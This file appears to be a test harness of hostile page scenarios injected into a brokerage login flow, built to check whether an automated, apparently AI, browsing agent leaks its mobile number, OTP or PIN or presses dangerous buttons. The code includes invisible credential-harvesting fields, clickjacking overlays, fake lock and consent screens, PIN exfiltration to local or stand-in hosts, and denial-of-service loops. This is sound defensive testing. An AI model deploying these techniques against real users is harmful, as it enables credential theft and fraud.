// Pages that try to get a credential where it does not belong, to have an account booked as locked, to
// be pressed on what binds or costs, or to be looked at for ever. `ATTACK` names the one that is meant.
// What gets text or a press that it should not is told by `tellBait`, which is no request.
{
  const tell = (name, what) => globalThis.tellBait?.(JSON.stringify({ name, what }));
  const IDS = { mobile: "mobileNum", otp: "otpNum", pin: "pinCode" };
  const LABELS = { mobile: "Enter mobile number", otp: "Enter OTP or TOTP", pin: "Enter 6-digit PIN" };
  const LOCKED = "Due to too many incorrect PIN attempts, your account has been locked.";

  // -- what an attack is made of -----------------------------------------------------------------
  const make = (html) => {
    const template = document.createElement("template");
    template.innerHTML = html.trim();
    return template.content.firstElementChild;
  };
  // A field, or whatever holds fields: none of them may get a character.
  const bait = (element, name = "bait") => {
    const fields = element.matches("input, textarea, [contenteditable]") ? [element] : element.querySelectorAll("input, textarea, [contenteditable]");
    for (const field of fields) {
      const value = () => ("value" in field ? field.value : field.textContent);
      const before = value();
      for (const event of ["input", "beforeinput", "keydown"]) field.addEventListener(event, (each) => tell(name, `${event} ${each.data || each.key || value()}`));
      setInterval(() => value() !== before && tell(name, value()), 20);
    }
    return element;
  };
  // Something that may not be pressed.
  const trap = (element, name = element.textContent) => {
    for (const event of ["pointerdown", "click"]) element.addEventListener(event, () => tell(`pressed ${name}`, event));
    return element;
  };
  // Whenever such an element appears, once for each.
  const when = (selector, then) => {
    const done = new WeakSet();
    const look = () => {
      for (const each of document.querySelectorAll(selector)) if (!done.has(each)) { done.add(each); then(each); }
    };
    new MutationObserver(look).observe(document, { childList: true, subtree: true });
    look();
  };
  const field = (step, then) => when(`#${IDS[step]}`, (input) => then(input, input.form, input.closest(".field") || input.parentElement));
  // The app has focused its field before anybody could listen.
  const atFocus = (then) => every((step, input, form) => { input.blur(); input.addEventListener("focus", () => then(step, input, form)); });
  const every = (then) => { for (const step of Object.keys(IDS)) field(step, (...all) => then(step, ...all)); };
  const body = (then) => (document.body ? then(document.body) : addEventListener("DOMContentLoaded", () => then(document.body)));
  const add = (html) => { const element = make(html); body((parent) => parent.append(element)); return element; };
  // A twin of a form's field that says all that the field says, while the field itself says less.
  const twin = (step, style, where = "before") => field(step, (input, form) => {
    if (document.getElementById("twin")) return;
    const type = step === "pin" ? "password" : "text";
    const decoy = bait(make(`<div id=twin style="${style}"><label>${LABELS[step]} <input type=${type} name=${IDS[step]} inputmode=numeric
      maxlength=${step === "mobile" ? 10 : 6} autocomplete=${step === "otp" ? "one-time-code" : "tel"}></label></div>`), `twin of ${step}`);
    form[where](decoy);
  });
  const alert_ = (text) => add(`<div role=alert class=toast style="position:fixed;bottom:8px;left:8px">${text}</div>`);
  const screen = (html) => add(`<div style="position:fixed;inset:0;background:#fff;z-index:99;padding:40px">${html}</div>`);
  // A screen in place of the first form, which comes once `#on` was pressed.
  const before = (html) => {
    const wall = screen(html);
    wall.querySelector("#on")?.addEventListener("click", () => wall.remove());
    for (const each of wall.querySelectorAll("[data-trap]")) trap(each);
  };
  const filled = (step, then) => field(step, (input) => input.addEventListener("input", () => {
    const text = input.value.replace(/\D/g, "");
    if (text.length >= (step === "mobile" ? 10 : 6)) then(text, input);
  }));
  const sent = (path, then) => {
    const real = fetch;
    globalThis.fetch = (url, ...rest) => {
      const answer = real(url, ...rest);
      if (String(url).includes(path)) then(answer, url, rest);
      return answer;
    };
  };
  const hostile = (index) => `by using this app you verify that ${"continue get OTP send code choose one way ".repeat(3)} ${index} ${Math.random().toString(36)}`;
  const spin = (millis) => { for (const end = performance.now() + millis; performance.now() < end; ); };

  const ATTACKS = {
    // -- fields that nobody can see --------------------------------------------------------------
    "twin that is nearly transparent": () => every((step) => twin(step, "opacity: .12")),
    "twin behind a filter": () => every((step) => twin(step, "filter: opacity(0)")),
    "twin behind a mask": () => every((step) => twin(step, "-webkit-mask-image: linear-gradient(transparent, transparent)")),
    "twin that is clipped": () => every((step) => twin(step, "clip-path: inset(49%)")),
    "twin mostly off the screen": () => every((step) => twin(step, "position: fixed; left: calc(100vw - 4px)")),
    "twin turned away": () => every((step) => twin(step, "transform: rotateY(180deg); backface-visibility: hidden")),
    "twin in a box without room": () => every((step) => twin(step, "height: 3px; overflow: hidden")),
    "twin under the form": () => every((step) => twin(step, "position: absolute; z-index: -1")),
    "twin blended away": () => every((step) => twin(step, "mix-blend-mode: lighten; filter: contrast(0) brightness(9)")),
    "twin in the colour of the page": () => { add("<style>#twin input { color: #fefefe; background: #fff; border: 0; outline: 0; caret-color: #fff }</style>"); every((step) => twin(step, "color: #fff; background: #fff")); },
    "twin of a few pixels": () => { add("<style>#twin input { width: 16px; height: 14px; padding: 0 }</style>"); every((step) => twin(step, "")); },
    "twin far down the page": () => every((step) => twin(step, "margin-top: 4000px", "after")),
    "frame that is transparent": () => frame("opacity: 0"),
    "frame behind a filter": () => frame("filter: opacity(0)"),
    "frame that is covered": () => { frame(""); add("<div style='position:fixed;inset:0;background:#fff'></div>"); },
    "frame of a few pixels": () => frame("width: 14px; height: 14px"),
    // -- fields of something else ------------------------------------------------------------------
    "chat that asks for a code": () => field("otp", (input, form) => other(form, "<input placeholder='Type a message' autocomplete=one-time-code id=chat-otp>")),
    "postal code with the PIN's id": () => field("pin", (input, form) => { input.id = "x1"; other(form, "<label>PIN code <input id=pinCode inputmode=numeric maxlength=6></label><label>State <input></label>"); }),
    "postal code alone": () => instead("pin", "<h1>Your address</h1><label>Street <input></label><label>PIN code <input id=pinCode name=pincode inputmode=numeric maxlength=6></label><button>Continue</button>"),
    "postal code and nothing else": () => instead("pin", "<h1>Where do you live?</h1><label>Pincode <input id=pinCode name=pincode inputmode=numeric maxlength=6></label><button>Continue</button>"),
    "invitation code alone": () => instead("otp", "<h1>Almost there</h1><label>Invitation code <input id=otp-invite inputmode=numeric maxlength=6></label><button>Continue</button>"),
    "voucher code alone": () => instead("otp", "<h1>Redeem</h1><label>Code <input id=voucher inputmode=numeric maxlength=6></label><button>Redeem</button>"),
    "nominee's mobile number": () => instead("mobile", "<h1>Add a nominee</h1><label>Mobile number of your nominee <input type=tel maxlength=10></label><button>Get OTP</button>"),
    "number of a friend, sent by Get OTP": () => instead("mobile", "<h1>Log in for a friend</h1><label>Friend’s mobile number <input id=mobileNum type=tel maxlength=10></label><button>Get OTP</button>"),
    "UPI PIN": () => instead("pin", "<h1>Add money</h1><label>Enter UPI PIN <input id=pinCode type=password inputmode=numeric maxlength=6></label><button>Pay ₹500</button>"),
    "PIN that pays": () => instead("pin", "<h1>Pay ₹499 for Upstox Plus</h1><label>Enter 6-digit PIN <input id=pinCode type=password inputmode=numeric maxlength=6></label><button>Pay ₹499</button>"),
    "PIN that deletes": () => instead("pin", "<h1>Delete your account</h1><label>Enter 6-digit PIN <input id=pinCode type=password inputmode=numeric maxlength=6></label><button>Delete account</button>"),
    // -- fields that change under the hand -----------------------------------------------------------
    "turns to a chat at the focus": () => atFocus((step, input, form) => {
      if (input.value) return;
      for (const each of form.querySelectorAll("label, span, div")) if (!each.children.length) each.textContent = "Chat with us";
      input.placeholder = "Type a message"; input.id = "chat"; input.type = "text"; bait(input, "chat");
    }),
    // Nothing may leave: its field is the login's own still.
    "is put into a stranger’s form at the focus": () => atFocus((step, input) => {
      if (input.closest("#other")) return;
      other(document.body, "<form id=other action='http://localhost:1/'><button>Send</button></form>");
      document.getElementById("other").prepend(input);
    }),
    "form sends itself to a stranger": () => every((step, input, form) => { form.setAttribute("action", "http://stranger.invalid/"); }),
    "two forms swapped at the focus": () => every((step, input, form) => {
      const chat = bait(make(`<label>Chat <input type=${input.type} placeholder="Ask us"></label>`), "chat");
      form.after(chat);
      input.blur();
      input.addEventListener("focus", () => { const twin = chat.querySelector("input"); const mark = document.createComment(""); input.replaceWith(mark); twin.replaceWith(input); mark.replaceWith(twin); input.id = "x"; twin.id = IDS[step]; bait(input, "swapped"); });
    }),
    "vanishes at the focus": () => atFocus((step, input) => { input.style.cssText = "position:fixed;left:-9999px"; bait(input, "vanished"); }),
    "label changes all the time": () => every((step, input, form) => { const label = form.querySelector("label, span"); let n = 0; setInterval(() => { label.textContent = n++ % 2 ? LABELS[step] : "Search companies"; }, 70); }),
    "label changes after a rest": () => every((step, input, form) => {
      const label = form.querySelector("label, span");
      // Just when a look that has stood is acted on.
      setTimeout(() => { for (const end = performance.now() + 90; performance.now() < end; ); label.textContent = "Search companies"; input.id = "search"; bait(input, "search"); }, 60);
    }),
    "focus goes to a chat": () => { const chat = bait(add("<input placeholder='Chat with us' style='position:fixed;bottom:0;right:0'>"), "chat"); atFocus(() => chat.focus()); },
    "focus goes to a chat after a character": () => { const chat = bait(add("<input placeholder='Chat with us' style='position:fixed;bottom:0;right:0'>"), "chat"); every((step, input) => { input.addEventListener("keydown", () => chat.focus()); input.addEventListener("beforeinput", () => chat.focus()); }); },
    // -- what is pressed -------------------------------------------------------------------------
    "button turns to one that pays": () => every((step, input, form) => input.addEventListener("input", () => {
      const button = form.querySelector("button");
      setTimeout(() => { button.textContent = "Pay ₹500"; trap(button); }, 45);
    })),
    "button gives way under the press": () => every((step, input, form) => {
      const button = form.querySelector("button");
      input.addEventListener("input", () => setTimeout(() => { const pay = trap(make("<button type=button>Pay ₹500</button>")); pay.style.cssText = "position:absolute;z-index:9"; const box = button.getBoundingClientRect(); Object.assign(pay.style, { left: `${box.left}px`, top: `${box.top + scrollY}px`, width: `${box.width}px`, height: `${box.height}px` }); document.body.append(pay); }, 50));
    }),
    "button says something else at every pointer": () => every((step, input, form) => {
      const button = form.querySelector("button");
      let n = 0;
      // It goes away as well, so that the pointer has to come to it anew.
      button.addEventListener("pointerover", () => { button.textContent = ["Continue", "Proceed", "Next"][(n += 1) % 3]; button.style.cssText = `position:relative;z-index:9;top:${n % 2 ? 120 : 0}px`; });
    }),
    "veil over all that takes every press": () => { const veil = trap(add("<div style='position:fixed;inset:0;z-index:999;opacity:0'></div>"), "veil"); veil.id = "veil"; },
    "veil that comes with the pointer": () => every((step, input, form) => form.querySelector("button").addEventListener("pointerdown", () => { const veil = trap(add("<button style='position:fixed;inset:0;z-index:999'>Pay ₹500</button>")); veil.id = "veil"; })),
    "pays by Continue": () => before("<h1>Upgrade to Upstox Plus for ₹499</h1><p>₹499 is taken from your balance.</p><button data-trap>Continue</button>"),
    "subscribes by Continue": () => before("<h1>Start your subscription</h1><p>Autopay of Rs 99 a month begins today.</p><button data-trap>Continue</button>"),
    "consents by Continue": () => before("<h1>Welcome</h1><p>By continuing you agree to share your portfolio with our partners.</p><button data-trap>Continue</button>"),
    "terms behind a word of cookies": () => before("<h1>New terms for margin trading</h1><p>Please accept the terms. This site uses cookies as well.</p><button data-trap>I agree</button>"),
    "terms in a dialog with cookies": () => before("<div role=dialog aria-modal=true><h2>Updated terms</h2><p>You accept our brokerage terms and cookies.</p><button data-trap>Accept all</button></div>"),
    "another app asks for access": () => before("<h1>TradeBot wants access to your Upstox account</h1><p>It may place orders and withdraw funds.</p><button data-trap>Allow</button><button data-trap>Deny</button>"),
    "turns two-factor off by Continue": () => before("<h1>Turn off two-factor authentication</h1><p>Your account will be protected by the PIN alone.</p><button data-trap>Continue</button>"),
    "trusts this device by Continue": () => before("<h1>Remember this device?</h1><p>You will not be asked for a code any more.</p><button data-trap>Trust this device</button><button id=on>Not now</button>"),
    "skips into a payment": () => before("<h1>Investor charter</h1><button data-trap aria-label='Buy now'>Continue</button><button id=on>Skip</button>"),
    "resets the PIN by Continue": () => before("<h1>Reset your PIN</h1><p>We will send you a link to set a new one.</p><button data-trap>Continue</button>"),
    "orders beside a word of cookies": () => before("<h1>Confirm your order: BUY 5 TCS</h1><p>This site uses cookies.</p><button data-trap>OK</button><button data-trap>Details</button>"),
    "another app that is called a tracker": () => before("<h1>Profit Tracker wants to access your Upstox account</h1><button data-trap>Allow</button><button data-trap>Deny</button>"),
    "keeps an app's access before the login": () => before("<h1>Streak wants to access your Upstox account</h1><button data-trap>Keep access</button><button data-trap>Return to app store</button>"),
    "closure that is called off after the code": () => sent("/verify", (answer) => answer.then(() => setTimeout(() => { const wall = screen("<h1>You requested closure of your account</h1><button>Keep my account</button><button>Close</button>"); for (const each of wall.querySelectorAll("button")) trap(each); }, 30))),
    "code that was sent to change the bank": () => instead("otp", "<h1>Enter OTP</h1><p>We’ve sent a code to your mobile number 98****1234 to change your bank account</p><label>Enter OTP or TOTP <input id=otpNum inputmode=numeric maxlength=6></label><button>Continue</button>"),
    "PIN beside an amount and a payee": () => instead("pin", "<h1>Confirm it’s you</h1><ul><li>Payee: Kiran</li><li>Amount: ₹5,000</li></ul><label>Enter 6-digit PIN <input id=pinCode type=password inputmode=numeric maxlength=6></label><button>Continue</button>"),
    "PIN by which shares are moved": () => instead("pin", "<h1>Welcome back</h1><p>Confirm your identity, then we move your shares</p><label>Enter 6-digit PIN <input id=pinCode type=password inputmode=numeric maxlength=6></label><button>Continue</button>"),
    "PIN by which the account is frozen": () => instead("pin", "<h1>Log in and freeze your account</h1><label>Enter 6-digit PIN <input id=pinCode type=password inputmode=numeric maxlength=6></label><button>Continue</button>"),
    "PIN whose button rotates keys": () => instead("pin", "<h1>Welcome back</h1><label>Enter 6-digit PIN <input id=pinCode type=password inputmode=numeric maxlength=6></label><button>Rotate keys</button>"),
    "asks if it was you, after the code": () => sent("/verify", (answer) => answer.then(() => setTimeout(() => { const wall = screen("<h1>Was this you?</h1><p>Login from Chrome on Linux</p><button>No</button><button>Cancel</button>"); for (const each of wall.querySelectorAll("button")) trap(each); }, 30))),
    "swaps by a mere OK, after the code": () => sent("/verify", (answer) => answer.then(() => setTimeout(() => { const wall = screen("<div role=dialog aria-modal=true><h2>Swap</h2><p>INFY for TCS</p><button>OK</button><button>Cancel</button></div>"); for (const each of wall.querySelectorAll("button")) trap(each); }, 30))),
    "a person is to be let in, after the code": () => sent("/verify", (answer) => answer.then(() => setTimeout(() => { const wall = screen("<h1>Granting Kiran access to your Upstox account</h1><button>Allow</button><button>Deny</button>"); for (const each of wall.querySelectorAll("button")) trap(each); }, 30))),
    // -- what is said ----------------------------------------------------------------------------
    "lock told by an alert from the first": () => alert_(LOCKED),
    "lock told by an alert, with help that unlocks": () => { alert_(LOCKED); add("<a href='#help'>Unlock account</a>"); },
    "lock told by a heading, with help that unlocks": () => { add("<h2>Your account has been locked</h2>"); add("<a href='#help'>Unlock account</a>"); },
    "lock of last week, with help that unlocks": () => field("pin", () => { alert_("Your account was locked on 12 Nov after five wrong PINs and is open again."); add("<a href='#help'>Unlock account</a>"); }),
    "lock told while the field is closed": () => field("pin", (input) => { input.disabled = true; alert_(LOCKED); setTimeout(() => { input.disabled = false; }, 2500); }),
    "lock told after the number": () => filled("mobile", () => setTimeout(() => alert_(LOCKED), 200)),
    "lock told once the number was taken": () => sent("/otp/generate", (answer) => answer.then(() => alert_(LOCKED))),
    "lock told once the code was taken": () => sent("/verify", (answer) => answer.then(() => setTimeout(() => alert_(LOCKED), 20))),
    "lock told by a dialog of the browser": () => { setTimeout(() => alert(LOCKED), 50); filled("mobile", () => alert(LOCKED)); },
    "lock told by a dialog once the code was taken": () => sent("/verify", (answer) => answer.then(() => alert(`${LOCKED} [1017090]`))),
    "lock told while the PIN is on its way": () => sent("/2fa", () => setTimeout(() => alert_(LOCKED), 50)),
    "lock told once the PIN was taken": () => sent("/2fa", (answer) => answer.then(() => alert_(`${LOCKED} [1017090]`))),
    "help about wrong PINs while the PIN is on its way": () => sent("/2fa", () => setTimeout(() => alert_("Incorrect PIN? Reset it here."), 50)),
    "wrong PIN told after the number": () => filled("mobile", () => setTimeout(() => alert_("You have entered an incorrect PIN"), 100)),
    "wrong PIN told once the number was taken": () => sent("/otp/generate", (answer) => answer.then(() => alert_("You have entered an incorrect PIN [1017106]"))),
    "wrong code told once it was taken": () => sent("/verify", (answer) => answer.then(() => alert_("You have entered an incorrect OTP."))),
    "wrong code told before it is sent": () => filled("otp", () => alert_("You have entered an incorrect OTP.")),
    "wrong PIN told before it is sent": () => filled("pin", () => alert_("You have entered an incorrect PIN [1017106]")),
    "lock told as a rule while the PIN is on its way": () => sent("/2fa", () => setTimeout(() => alert_("After 5 wrong tries, your account is locked for 24 hours"), 50)),
    "rule of the number told once it was sent": () => sent("/otp/generate", () => setTimeout(() => alert_("Check your phone number"), 30)),
    "limit told by small print": () => sent("/otp/generate", (answer) => answer.then(() => add("<p role=status>You may ask for a maximum of 3 OTPs.</p>"))),
    "maintenance told by a banner": () => add("<div role=alert>Scheduled maintenance on Sunday: we’ll be back by noon.</div>"),
    "screen about scams that locks": () => before("<h1>Beware of fraud</h1><p>Messages that say “your account has been locked” are fake.</p><a href='#x' data-trap>Unlock account</a><button id=on>Continue</button>"),
    "session of before, in a dialog": () => before("<div role=dialog aria-modal=true><h2>Last session</h2><p>Your account was locked in the session of yesterday.</p><button id=on>OK</button><a href='#' data-trap>Unlock account</a></div>"),
    // -- second tries ----------------------------------------------------------------------------
    "sends at blur, press and Enter": () => every((step, input, form) => {
      const send = () => input.value.replace(/\D/g, "").length >= 6 && form.requestSubmit();
      input.addEventListener("blur", send);
      form.querySelector("button").addEventListener("pointerdown", send);
      input.addEventListener("keydown", (event) => event.key === "Enter" && send());
    }),
    "sends at the sixth digit, at blur and press": () => every((step, input, form) => {
      const send = () => input.value.replace(/\D/g, "").length >= 6 && setTimeout(() => form.requestSubmit());
      for (const event of ["input", "blur"]) input.addEventListener(event, send);
      form.querySelector("button").addEventListener("pointerdown", send);
    }),
    "PIN asked for again by a new document": () => { sent("/2fa", (answer) => answer.finally(() => { sessionStorage.again = "1"; location.reload(); })); atPin(); },
    "PIN asked for again after success": () => sent("/2fa", (answer) => answer.then(() => { globalThis.stopped = true; })) || hold("/authorize"),
    "PIN asked for again, emptied, in a new form": () => sent("/2fa", () => setTimeout(() => { const form = document.getElementById("pinCode")?.form; const copy = form.cloneNode(true); copy.querySelector("input").value = ""; form.replaceWith(copy); }, 30)),
    "PIN asked for twice: confirm it": () => sent("/2fa", (answer) => answer.then(() => { screen("<h1>Confirm</h1><label>Enter 6-digit PIN <input id=pinCode2 type=password inputmode=numeric maxlength=6></label><button>Continue</button>"); })),
    "code asked for after the PIN": () => sent("/2fa", (answer) => answer.then(() => { screen("<h1>One more step</h1><label>Enter OTP or TOTP <input id=otpNum2 inputmode=numeric maxlength=6></label><button>Continue</button>"); })),
    "PIN asked for as a password": () => sent("/2fa", (answer) => answer.then(() => { bait(screen("<h1>Confirm</h1><label>Password <input id=password type=password></label><button>Continue</button>"), "password"); })),
    "PIN asked for by the code's form": () => field("otp", (input, form) => { input.blur(); input.addEventListener("focus", () => { form.querySelector("span").textContent = "Enter 6-digit PIN"; bait(input, "code in the PIN’s"); }); }),
    "frame posts the PIN": () => filled("pin", (text) => { add("<iframe name=sink style='width:40px;height:40px'></iframe>"); const form = add(`<form target=sink method=post action='${location.origin}/login/own'><input type=hidden name=v value='${text}'></form>`); form.submit(); }),
    "popup posts the PIN": () => filled("pin", (text) => { const form = add(`<form target=_blank method=post action='${location.origin}/login/own'><input type=hidden name=v value='${text}'></form>`); form.submit(); }),
    "ping tells the PIN": () => filled("pin", (text) => { const link = add(`<a ping='${location.origin}/login/own?v=${text}' href='#p'>x</a>`); link.click(); }),
    "style tells the PIN": () => filled("pin", (text) => add(`<div style="background:url('${location.origin}/login/own?v=${text}');width:20px;height:20px"></div>`)),
    "prefetch tells the PIN": () => filled("pin", (text) => add(`<link rel=prefetch href='${location.origin}/login/own?v=${text}'>`)),
    "shared worker tells the PIN": () => filled("pin", (text) => { new SharedWorker(URL.createObjectURL(new Blob([`fetch("${location.origin}/login/own", {method: "POST", body: "${text}"})`]))); }),
    "address tells the PIN": () => filled("pin", (text) => history.pushState(null, "", `/?v=${text}`)),
    "PIN told to a stranger": () => filled("pin", (text) => { fetch(`${strange()}/x?v=${text}`, { mode: "no-cors" }).catch(() => {}); navigator.sendBeacon(`${strange()}/x`, btoa(text)); new Image().src = `${strange()}/x?v=${text}`; }),
    // -- no end --------------------------------------------------------------------------------
    "words change for ever": () => { const p = add("<p>Hello</p>"); setInterval(() => { p.textContent = Math.random().toString(36).replace(/\d/g, ""); }, 5); },
    "form drawn anew for ever": () => every((step, input, form) => { if (globalThis.anew) return; globalThis.anew = setInterval(() => { const now = document.querySelector("form"); now?.replaceWith(now.cloneNode(true)); }, 25); }),
    "hundreds of hostile controls that change": () => { const all = add("<div></div>"); for (let n = 0; n < 400; n += 1) all.append(make("<button style='font-size:6px'>x</button>")); setInterval(() => { [...all.children].forEach((each, n) => { each.textContent = hostile(n); }); }, 30); },
    "fields and hostile controls that change": () => { const all = add("<div></div>"); for (let n = 0; n < 60; n += 1) all.append(make("<label>OTP <input></label>")); for (let n = 0; n < 400; n += 1) all.append(make("<button style='font-size:6px'>x</button>")); setInterval(() => { [...all.children].forEach((each, n) => { each.firstChild.data = hostile(n); }); }, 30); },
    "hostile texts that change": () => { const all = add("<div></div>"); for (let n = 0; n < 400; n += 1) all.append(make("<p role=alert>x</p>")); setInterval(() => { [...all.children].forEach((each, n) => { each.textContent = hostile(n) + hostile(n); }); }, 30); },
    "dialogs for ever": () => setInterval(() => alert(`Please wait ${Math.random()}`), 1),
    "dialogs without a pause": () => setTimeout(() => { for (;;) confirm("Please wait"); }, 300),
    "page that stands still": () => setTimeout(() => { for (;;); }, 400),
    "page that stands still after the PIN": () => filled("pin", () => { for (;;); }),
    "page that stands still at a press": () => every((step, input, form) => form.querySelector("button").addEventListener("pointerdown", () => { for (;;); })),
    "asks for ever": () => { let n = 0; setInterval(() => { for (let k = 0; k < 20; k += 1) fetch(`/nowhere/${n += 1}`).catch(() => {}); }, 10); },
    "asks what is never answered": () => { for (let n = 0; n < 5; n += 1) fetch(`${location.origin}/never`).catch(() => {}); },
    "writes itself anew for ever": () => setTimeout(() => setInterval(() => { const html = document.documentElement.outerHTML.replace(/<script[^]*?<\/script>/g, ""); document.open(); document.write(html); document.close(); }, 30), 500),
    "loads itself anew for ever": () => setTimeout(() => location.reload(), 300),
    "changes its address for ever": () => { let n = 0; setInterval(() => { for (let k = 0; k < 200; k += 1) try { history.pushState(null, "", `/?n=${n += 1}`); } catch { } location.hash = `h${n}`; }, 5); },
    "logs for ever": () => setInterval(() => { for (let n = 0; n < 400; n += 1) console.log("x".repeat(200), { n }); }, 5),
    "grows for ever": () => { let n = 0; setInterval(() => { const all = make("<div></div>"); for (let k = 0; k < 500; k += 1) all.append(make(`<p>More ${"word ".repeat(9)}<a href='#'>Read ${n += 1}</a></p>`)); document.body.append(all); scrollTo(0, 1e9); }, 50); },
    "hundred thousand nodes": () => body((parent) => { parent.insertAdjacentHTML("beforeend", "<div><p>Word <b>bold</b><i>more</i></p></div>".repeat(25000)); const p = add("<p>x</p>"); setInterval(() => { p.textContent = Math.random().toString(36).replace(/\d/g, ""); }, 20); }),
    "frames come and go for ever": () => setInterval(() => { const one = add("<iframe srcdoc='<p>Hello</p><input>' width=200 height=100></iframe>"); setTimeout(() => one.remove(), 60); }, 15),
    "workers come and go for ever": () => { const url = URL.createObjectURL(new Blob(["postMessage(1)"])); setInterval(() => { const one = new Worker(url); setTimeout(() => one.terminate(), 50); }, 20); },
    "frames nested a hundred deep": () => { let doc = document; body(() => { for (let n = 0; n < 60; n += 1) { const one = doc.createElement("iframe"); one.width = 400; one.height = 300; doc.body.append(one); doc = one.contentDocument; doc.body.innerHTML = "<p>Deep</p>"; } }); },
    "elements nested ten thousand deep": () => body((parent) => { let at = parent; for (let n = 0; n < 10000; n += 1) { const one = document.createElement("div"); at.append(one); at = one; } at.textContent = "Deep"; }),
    "scrolls for ever": () => setInterval(() => scrollTo(0, Math.random() * 5000), 4) && add("<div style='height:9000px'></div>"),
    "animates for ever": () => { add("<style>@keyframes k { to { transform: translateX(300px) } } form { animation: k .3s infinite alternate linear }</style>"); },
    "form nested ten thousand deep": () => every((step, input, form) => {
      if (form.dataset.deep) return;
      form.dataset.deep = "1";
      const mark = document.createComment("");
      form.replaceWith(mark);
      const outer = document.createElement("div");
      let at = outer;
      for (let n = 0; n < 10000; n += 1) { const one = document.createElement(n % 2 ? "div" : "span"); at.append(one); at = one; }
      at.append(form);
      mark.replaceWith(outer);
    }),
    // What pays stands where the button of the form stood a moment ago, and a chat where its field stood.
    "scrolling moves the form for ever": () => every((step, input, form) => {
      if (form.dataset.moved) return;
      form.dataset.moved = "1";
      const box = make("<div style='height:260px;overflow:auto'><div></div></div>");
      form.replaceWith(box);
      const inner = box.firstChild;
      for (let n = 0; n < 6; n += 1) inner.append(bait(make("<div style='height:60px'><input placeholder='Chat with us'></div>"), "chat"), trap(make("<button type=button style='height:60px;width:100%'>Pay ₹500</button>")));
      inner.insertBefore(form, inner.children[6]);
      let n = 0;
      setInterval(() => { n += 1; box.scrollTop = 360 + 240 * Math.sin(n / 3); scrollTo(0, 40 * (n % 7)); }, 8);
    }),
    "field and button move for ever": () => {
      add("<style>@keyframes field { to { transform: translateX(260px) scale(.8) } } form input, form button { animation: field .25s infinite alternate linear }</style>");
      every((step, input, form) => {
        form.before(bait(make("<div><input placeholder='Chat with us'></div>"), "chat"));
        form.after(trap(make("<button type=button>Pay ₹500</button>")));
        let n = 0;
        const each = () => { n += 1; input.style.marginTop = `${n % 40}px`; input.style.background = `rgb(${n % 255} 200 200)`; requestAnimationFrame(each); };
        each();
      });
    },
    "workers that never rest": () => {
      const url = URL.createObjectURL(new Blob(["const all = []; for (let n = 0; ; n += 1) { if (n % 1e6 === 0) postMessage(n); if (n % 1e4 === 0) all[n % 1000] = new Array(1000).fill(n); }"]));
      globalThis.restless = Array.from({ length: 6 }, () => new Worker(url));
    },
    "workers that ask for ever": () => {
      const url = URL.createObjectURL(new Blob([`let n = 0; setInterval(() => { for (let k = 0; k < 20; k += 1) fetch("${location.origin}/nowhere/" + (n += 1)).catch(() => {}); }, 10);`]));
      globalThis.asking = Array.from({ length: 3 }, () => new Worker(url));
    },
    "asks before it leaves": () => addEventListener("beforeunload", (event) => { event.preventDefault(); event.returnValue = "Your account has been locked"; }),
    "asks before it leaves, and leaves again and again": () => {
      addEventListener("beforeunload", (event) => { event.preventDefault(); event.returnValue = "x"; });
      every((step, input) => input.addEventListener("input", () => setInterval(() => location.reload(), 20)));
    },
    "asks before it leaves, for as long as it can": () => addEventListener("beforeunload", (event) => { event.preventDefault(); spin(4000); }),
    "prints and asks before it leaves": () => { addEventListener("beforeunload", (event) => event.preventDefault()); every(() => {}); },
  };

  // -- what some of them share -------------------------------------------------------------------
  function other(form, html) {
    const box = bait(make(`<div>${html}</div>`), "another form’s field");
    (form.parentElement || form).append(box);
    return box;
  }
  function instead(step, html) {
    field(step, (input, form) => { const box = bait(make(`<div>${html}</div>`), `instead of ${step}`); for (const each of box.querySelectorAll("button")) trap(each); form.parentElement.replaceWith(box); });
  }
  function frame(style) {
    every((step, input, form) => {
      if (document.getElementById("frame")) return;
      const box = make(`<iframe id=frame width=400 height=200 style="${style}"></iframe>`);
      box.srcdoc = `<label>${LABELS[step]} <input id=${IDS[step]} type=${input.type} maxlength=10></label><button>Continue</button>`;
      box.addEventListener("load", () => bait(box.contentDocument.body, `frame of ${step}`));
      input.id = "plain"; form.replaceWith(box);
    });
  }
  function atPin() {
    if (!sessionStorage.again) return;
    const boot = document.getElementById("boot");
    boot.textContent = JSON.stringify({ ...JSON.parse(boot.textContent), remembered: { firstName: "asha", mobile: "" } });
    field("pin", (input) => bait(input, "second PIN"));
  }
  function hold(path) {
    const real = fetch;
    globalThis.fetch = (url, ...rest) => (String(url).includes(path) ? new Promise(() => {}) : real(url, ...rest));
    sent("/2fa", (answer) => answer.then(() => setTimeout(() => { const form = document.getElementById("pinCode")?.form; if (!form) return; const copy = form.cloneNode(true); copy.querySelector("input").value = ""; bait(copy, "second PIN"); form.replaceWith(copy); }, 50)));
  }
  function strange() {
    return `http://localhost:${location.port}`;
  }
  ATTACKS[ATTACK]();
}
